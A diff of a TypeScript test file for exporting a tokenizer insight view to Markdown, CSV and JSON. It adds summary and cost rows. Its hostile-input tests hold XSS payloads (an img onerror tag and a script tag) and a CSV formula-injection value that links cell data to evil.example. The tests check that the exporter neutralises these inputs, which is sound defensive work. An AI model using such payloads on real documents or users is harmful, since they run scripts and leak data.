@@ -2,92 +2,7 @@ import * as assert from 'node:assert/strict';
 import { csvCell, exportInsight } from '../../src/core/present/insightExport';
 import type { InsightView } from '../../src/core/insights/insightView';
 import { hostileInsightView, sampleInsightView } from '../fixtures/insightView';
-
-/**
- * "Hi there, yo" (12 characters) as 4 tokens `Hi` `·there` `,` `·yo`: small enough that every
- * line of the expected exports below was written out by hand from these numbers.
- */
-const tiny: InsightView = {
-  source: { fileName: 'a.md', scope: 'selection', chars: 12 },
-  model: { id: 'gpt-4o', displayName: 'GPT-4o', tokenizerLabel: 'o200k_base', exact: true },
-  compression: {
-    tokenizer: 'o200k_base',
-    tokens: 4,
-    chars: 12,
-    bytes: 12,
-    words: 3,
-    charsPerToken: 3,
-    bytesPerToken: 3,
-    tokensPerWord: 1.3333,
-    entropyBitsPerToken: 2,
-    distinctTokens: 4,
-    distinctShare: 1,
-    lengthHistogram: { counts: [1, 1, 1, 1], lastBucketOpen: true },
-    partialTokens: 0,
-    topTokens: [
-      { id: 1, text: 'Hi', count: 1 },
-      { id: 2, text: '·there', count: 1 },
-    ],
-  },
-  scripts: [
-    { script: 'Latin', chars: 9, tokens: 3, charsPerToken: 3 },
-    { script: 'Common', chars: 3, tokens: 1, charsPerToken: 3 },
-  ],
-  models: [
-    {
-      id: 'gpt-4o',
-      displayName: 'GPT-4o',
-      provider: 'OpenAI',
-      tokens: 4,
-      exact: true,
-      usableWindow: 111_616,
-      windowSharePct: 0.0036,
-      inputCost: 0.00001,
-      cachedInputCost: 0.000005,
-      outputCost: 0.001,
-      priceSource: 'genai-prices 0.1.8 (OpenAI)',
-      priceDate: '2026-01-01',
-    },
-    { id: 'x', displayName: 'My, "quoted" model', provider: 'Custom', tokens: 5, exact: false, errorLabel: '±10% (estimated)', usableWindow: 1000, windowSharePct: 0.5 },
-  ],
-  expectedOutputTokens: 100,
-  compare: { a: 'gpt-4o', b: 'x', spans: [{ start: 0, end: 3, text: 'Hi ', tokensA: 1, tokensB: 2 }], truncated: true, highlighted: false },
-  modelChoices: [
-    { id: 'gpt-4o', label: 'GPT-4o' },
-    { id: 'x', label: 'My model' },
-  ],
-};
-
-/** RFC 4180 read back: rows of cells, quoted cells unquoted (a reader of our own, for checking). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (ch === '\r' && text[i + 1] === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-      i++;
-    } else cell += ch;
-  }
-  assert.equal(quoted, false, 'an unterminated quote');
-  assert.equal(row.length + cell.length, 0, 'the last row ends with CRLF');
-  return rows;
-}
+import { parseCsv, tiny } from './support/insightExportFixture';
 
 describe('insight export: Markdown', () => {
   it('writes a heading and one table per section, numbers as the panel shows them', () => {
@@ -95,6 +10,25 @@ describe('insight export: Markdown', () => {
       '# Tokenscope insight: a.md',
       '',
       'Selection, 12 characters. Model: GPT-4o (o200k\\_base, exact).',
+      '',
+      '## At a glance',
+      '',
+      '- Tokens: **4** tokens, exact',
+      '- Fit: **\\<0.1%** of 112k usable: 128k window − 16k kept for output',
+      '- Cost: **$0.00001** input of this text; $0.001 with 100 tokens of output',
+      '- Cheapest: **GPT-4o** cheapest exact model: $0.00001 input',
+      '- Most compact: **GPT-4o** most compact exact model: 4 tokens',
+      '',
+      '## Models (output: 100 tokens)',
+      '',
+      '| Model | Provider | Tokens | Usable window | Share | Input | Cached input | Output | Total |',
+      '| --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |',
+      '| GPT-4o | OpenAI | 4 | 111,616 | <0.1% | $0.00001 | $0.000005 | $0.001 | $0.001 |',
+      '| My, "quoted" model | Custom | ≈5 ±10% (estimated) | 1,000 | 0.5% | — | — | — | — |',
+      '',
+      'Total: the input cost of this text plus the cost of 100 tokens of output; cached input is not assumed.',
+      '',
+      '- Prices: genai-prices 0.1.8 (OpenAI), 2026-01-01 (GPT-4o)',
       '',
       '## Compression (o200k\\_base)',
       '',
@@ -125,22 +59,13 @@ describe('insight export: Markdown', () => {
       '| Token | Id | Count |',
       '| --- | ---: | ---: |',
       '| `Hi` | 1 | 1 |',
-      '| `·there` | 2 | 1 |',
-      '',
-      '## Models (output: 100 tokens)',
-      '',
-      '| Model | Provider | Tokens | Usable window | Share | Input | Cached input | Output |',
-      '| --- | --- | ---: | ---: | ---: | ---: | ---: | ---: |',
-      '| GPT-4o | OpenAI | 4 | 111,616 | <0.1% | <$0.0001 | <$0.0001 | $0.001 |',
-      '| My, "quoted" model | Custom | ≈5 ±10% (estimated) | 1,000 | 0.5% | — | — | — |',
-      '',
-      '- Prices: genai-prices 0.1.8 (OpenAI), 2026-01-01 (GPT-4o)',
+      '| ` there` | 2 | 1 |',
       '',
       '## Where tokenizers disagree: GPT-4o vs My, "quoted" model',
       '',
       '| Text | GPT-4o | My, "quoted" model | More tokens |',
       '| --- | ---: | ---: | --- |',
-      '| `Hi·` | 1 | 2 | My, "quoted" model +1 |',
+      '| `Hi ` | 1 | 2 | My, "quoted" model +1 |',
       '',
       'There are more spans than the 1 listed.',
       '',
@@ -159,7 +84,7 @@ describe('insight export: Markdown', () => {
     const view: InsightView = {
       ...hostileInsightView,
       models: [{ ...tiny.models[0], displayName: 'a|b *c* [d](e)' }],
-      compression: { ...hostileInsightView.compression, topTokens: [{ id: 9, text: 'x|y`z', count: 1 }] },
+      compression: { ...hostileInsightView.compression, topTokens: [{ id: 9, text: 'x|y`z', raw: 'x|y`z', count: 1 }] },
     };
     const md = exportInsight(view, 'markdown');
     assert.ok(md.startsWith('# Tokenscope insight: @evil\\<img src=x onerror="alert(1)"\\>.md\n'), md.split('\n')[0]);
@@ -168,7 +93,7 @@ describe('insight export: Markdown', () => {
     // A code span for the token, its backtick fenced by two, the pipe escaped for the table.
     assert.match(md, /^\| ``x\\\|y`z`` \| 9 \| 1 \|$/m);
     // The span's text on one line, inside a code span, where HTML is not interpreted.
-    assert.match(md, /^\| `He·said,·"hi"\\n<script>alert\(1\)<\/script>` \| 12 \| 14 \| Claude Sonnet 4\.5 \+2 \|$/m);
+    assert.match(md, /^\| `He said, "hi"\\n<script>alert\(1\)<\/script>` \| 12 \| 14 \| Claude Sonnet 4\.5 \+2 \|$/m);
   });
 
   it('leaves out the disagreement section when no pair is compared', () => {
@@ -202,10 +127,18 @@ describe('insight export: CSV', () => {
       'token_length,2,tokens,1',
       'token_length,3,tokens,1',
       'token_length,4+,tokens,1',
-      'top_token,Hi,id,1',
-      'top_token,Hi,count,1',
-      'top_token,·there,id,2',
-      'top_token,·there,count,1',
+      'summary,gpt-4o,tokens,4',
+      'summary,gpt-4o,exact,true',
+      'summary,gpt-4o,usable_window,111616',
+      'summary,gpt-4o,window_share_pct,0.0036',
+      'summary,gpt-4o,input_cost_usd,0.00001',
+      'summary,gpt-4o,total_cost_usd,0.00101',
+      'summary,gpt-4o,cheapest_exact_input_cost_usd,0.00001',
+      'summary,gpt-4o,most_compact_exact_tokens,4',
+      'top_token,1,text,Hi',
+      'top_token,1,count,1',
+      'top_token,2,text," there"',
+      'top_token,2,count,1',
       'models,,expected_output_tokens,100',
       'model,gpt-4o,display_name,GPT-4o',
       'model,gpt-4o,provider,OpenAI',
@@ -217,6 +150,7 @@ describe('insight export: CSV', () => {
       'model,gpt-4o,input_cost_usd,0.00001',
       'model,gpt-4o,cached_input_cost_usd,0.000005',
       'model,gpt-4o,output_cost_usd,0.001',
+      'model,gpt-4o,total_cost_usd,0.00101',
       'model,gpt-4o,price_source,genai-prices 0.1.8 (OpenAI)',
       'model,gpt-4o,price_date,2026-01-01',
       'model,x,display_name,"My, ""quoted"" model"',
@@ -229,12 +163,13 @@ describe('insight export: CSV', () => {
       'model,x,input_cost_usd,',
       'model,x,cached_input_cost_usd,',
       'model,x,output_cost_usd,',
+      'model,x,total_cost_usd,',
       'model,x,price_source,',
       'model,x,price_date,',
       'disagreements,,model_a,gpt-4o',
       'disagreements,,model_b,x',
       'disagreements,,truncated,true',
-      'disagreement,0-3,text,Hi ',
+      'disagreement,0-3,text,"Hi "',
       'disagreement,0-3,tokens_a,1',
       'disagreement,0-3,tokens_b,2',
       'script,Latin,chars,9',
@@ -280,8 +215,8 @@ describe('insight export: CSV', () => {
     }
     assert.deepEqual(rows[1], ['source', `'@evil<img src=x onerror="alert(1)">.md`, 'scope', 'file']);
     assert.deepEqual(
-      rows.find((r) => r[0] === 'top_token' && r[2] === 'count'),
-      ['top_token', `'=HYPERLINK("https://evil.example/?d="&A1,"click")`, 'count', '3'],
+      rows.find((r) => r[0] === 'top_token' && r[2] === 'text'),
+      ['top_token', '1', 'text', `'=HYPERLINK("https://evil.example/?d="&A1,"click")`],
     );
     assert.deepEqual(
       rows.find((r) => r[0] === 'disagreement' && r[2] === 'text'),
@@ -292,17 +227,23 @@ describe('insight export: CSV', () => {
   it('has a row per number of the sample view', () => {
     const rows = parseCsv(exportInsight(sampleInsightView, 'csv'));
     const v = sampleInsightView;
-    // 1 header + 2 source + 3 model + 11 compression + histogram + 2 per top token + 1 output
-    // + 12 per model + 3 compare + 3 per span + 3 per script.
+    // 1 header + 2 source + 3 model + 11 compression + histogram + 6 summary + the picks and
+    // contenders + 2 per top token + 1 output + 13 per model + 3 compare + 3 per span + 3 per script.
+    const s = v.summary;
     const expected =
       1 +
       2 +
       3 +
       11 +
       v.compression.lengthHistogram.counts.length +
+      6 +
+      (s.cheapest ? 1 : 0) +
+      (s.mostCompact ? 1 : 0) +
+      s.cheaperApprox.length +
+      s.compacterApprox.length +
       2 * v.compression.topTokens.length +
       1 +
-      12 * v.models.length +
+      13 * v.models.length +
       3 +
       3 * v.compare!.spans.length +
       3 * v.scripts.length;
@@ -320,7 +261,25 @@ describe('insight export: JSON', () => {
     assert.ok(text.endsWith('}\n'));
     assert.ok(text.startsWith('{\n  "source": {\n    "fileName": "a.md",\n    "scope": "selection",\n    "chars": 12\n  },\n  "model": {'), text.slice(0, 120));
     const data = JSON.parse(text);
-    assert.deepEqual(Object.keys(data), ['source', 'model', 'compression', 'expectedOutputTokens', 'models', 'disagreements', 'scripts']);
+    assert.deepEqual(Object.keys(data), ['source', 'model', 'summary', 'compression', 'expectedOutputTokens', 'models', 'disagreements', 'scripts']);
+    assert.deepEqual(data.summary, {
+      tokens: 4,
+      exact: true,
+      contextWindow: 128_000,
+      reservedOutputTokens: 16_384,
+      usableWindow: 111_616,
+      windowSharePct: 0.0036,
+      inputCost: 0.00001,
+      totalCost: 0.00101,
+      cheapestExact: { id: 'gpt-4o', inputCost: 0.00001 },
+      cheaperApprox: [],
+      mostCompactExact: { id: 'gpt-4o', tokens: 4 },
+      compacterApprox: [],
+    });
+    assert.deepEqual(data.compression.topTokens, [
+      { id: 1, text: 'Hi', count: 1 },
+      { id: 2, text: ' there', count: 1 },
+    ]);
     assert.deepEqual(Object.keys(data.models[0]), [
       'id',
       'displayName',
@@ -333,6 +292,7 @@ describe('insight export: JSON', () => {
       'inputCost',
       'cachedInputCost',
       'outputCost',
+      'totalCost',
       'priceSource',
       'priceDate',
     ]);
@@ -348,6 +308,7 @@ describe('insight export: JSON', () => {
       inputCost: null,
       cachedInputCost: null,
       outputCost: null,
+      totalCost: null,
       priceSource: null,
       priceDate: null,
     });
